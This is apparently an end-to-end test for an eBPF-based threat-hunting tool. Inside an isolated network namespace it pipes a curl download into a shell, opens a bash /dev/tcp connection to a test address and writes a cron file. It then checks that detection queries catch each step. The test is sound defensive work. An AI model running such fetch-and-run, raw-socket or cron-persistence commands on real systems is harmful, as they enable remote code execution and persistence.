"""Hunting playbook on live Linux telemetry from the eBPF sensor: the test does each behaviour itself
and the realistic hunt must find exactly what it did (its own pids, addresses and paths):
- curl piped to a shell (`curl URL | sh`): a sample of curl and a shell with the same parent;
- a shell with an external connection: bash's /dev/tcp to 198.51.100.7 (TEST-NET-2, outside the
  sensor's internal CIDRs), served inside a private network namespace so nothing outside it changes;
- a new cron entry: a file created in /etc/cron.d.
Other activity on the machine may match too (the agent sees the whole host): such rows must still
satisfy the hunt's predicate."""
import json
import os
import subprocess
import time
import uuid

from vigil_e2e import Vigil, check, wait_for

NS = f"vigil-e2e-{uuid.uuid4().hex[:8]}"
ADDR = "198.51.100.7"
INTERNAL = '"10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "127.0.0.0/8", "169.254.0.0/16", "::1/128", ' \
           '"fe80::/10", "fc00::/7"'
marker = uuid.uuid4().hex[:12]
cron = f"/etc/cron.d/vigil-e2e-{marker}"

subprocess.run(["ip", "netns", "add", NS], check=True)
server = None
try:
    subprocess.run(["ip", "netns", "exec", NS, "ip", "link", "set", "lo", "up"], check=True)
    subprocess.run(["ip", "netns", "exec", NS, "ip", "addr", "add", f"{ADDR}/32", "dev", "lo"], check=True)
    with Vigil() as v:
        v.start_server()
        state = os.path.join(v.dir, "agent")
        check(v.enroll(state).returncode == 0, "agent enrolls")
        v.start_agent(state, "--sensor", "ebpf")
        wait_for(lambda: any(h["online"] for h in v.hosts()), 30, "the agent to come online")
        time.sleep(1)  # the sensor attaches before the agent reports online; leave it a moment

        www = os.path.join(v.dir, "www")
        os.makedirs(www)
        with open(os.path.join(www, "install.sh"), "w") as f:
            f.write(f"echo pwned-{marker}\n")
        server = subprocess.Popen(["ip", "netns", "exec", NS, "python3", "-m", "http.server", "8080", "--bind", ADDR,
                                   "--directory", www], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        wait_for(lambda: subprocess.run(["ip", "netns", "exec", NS, "curl", "-sf", f"http://{ADDR}:8080/install.sh"],
                                        capture_output=True).returncode == 0, 10, "the web server in the namespace")

        # 1. curl | sh (the parent shell's pid is the Popen's: ip netns exec execs it)
        piped = subprocess.Popen(["ip", "netns", "exec", NS, "bash", "-c",
                                  f"curl -s http://{ADDR}:8080/install.sh | sh; true"], stdout=subprocess.PIPE, text=True)
        out, _ = piped.communicate()
        check(out.strip() == f"pwned-{marker}", "the piped script ran")
        # 2. a shell talking to an external address
        shell = subprocess.Popen(["ip", "netns", "exec", NS, "bash", "-c",
                                  f"exec 3<>/dev/tcp/{ADDR}/8080; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 >/dev/null"])
        shell.wait()
        # 3. a new cron entry
        with open(cron, "w") as f:
            f.write(f"* * * * * root /bin/true {marker}\n")

        def hunt(query):
            out = v.cli("hunt", query, "--since", "10m", "--limit", "0", "--format", "json")
            return [json.loads(line) for line in out.splitlines() if line.strip()]

        q = ('sample by process.parent.entity_id [process where process.name in ("curl", "wget")] '
             '[process where process.name in ("sh", "bash", "dash", "zsh") and event.action == "exec"]')
        samples = wait_for(lambda: [s["sample"] for s in hunt(q)
                                    if s["sample"][0].get("process.parent.pid") == piped.pid], 15, "the curl | sh sample")
        check(len(samples) == 1, f"one curl | sh sample for the test's shell ({len(samples)})")
        names = sorted(e["process.name"] for e in samples[0])
        sh_name = os.path.basename(os.path.realpath("/bin/sh"))  # dash on Debian
        check(names == sorted(["curl", sh_name]), f"curl and {sh_name}, siblings under pid {piped.pid}: {names}")
        check(all(e["process.parent.pid"] == piped.pid for e in samples[0]), "both children of the piping shell")

        q = ('network where process.name in ("bash", "sh", "dash", "zsh") and event.action == "connect" and '
             f'not cidrMatch(destination.ip, {INTERNAL})')
        rows = wait_for(lambda: (lambda r: r if any(e["process.pid"] == shell.pid for e in r) else None)(hunt(q)),
                        15, "the shell's external connection")
        ours = [e for e in rows if e["process.pid"] == shell.pid]
        check(len(ours) == 1 and ours[0]["destination.ip"] == ADDR and ours[0]["destination.port"] == 8080,
              f"bash -> {ADDR}:8080 found once: {[(e['destination.ip'], e['destination.port']) for e in ours]}")
        check(ours[0].get("vigil.destination.external") is True, "marked external by the sensor")
        check(all(e["process.name"] in ("bash", "sh", "dash", "zsh") for e in rows), f"{len(rows)} rows, all shells")

        q = ('persistence where vigil.persistence.mechanism == "cron" and event.type == "creation"')
        rows = wait_for(lambda: (lambda r: r if any(e.get("file.path") == cron for e in r) else None)(hunt(q)),
                        15, "the new cron entry")
        ours = [e for e in rows if e.get("file.path") == cron]
        check(len(ours) == 1 and ours[0]["process.pid"] == os.getpid(),
              f"the cron file's creation, once, by this test ({len(ours)})")
        check(all(e["vigil.persistence.mechanism"] == "cron" for e in rows), f"{len(rows)} rows, all cron")
finally:
    if server:
        server.kill()
        server.wait()
    if os.path.exists(cron):
        os.remove(cron)
    subprocess.run(["ip", "netns", "del", NS])
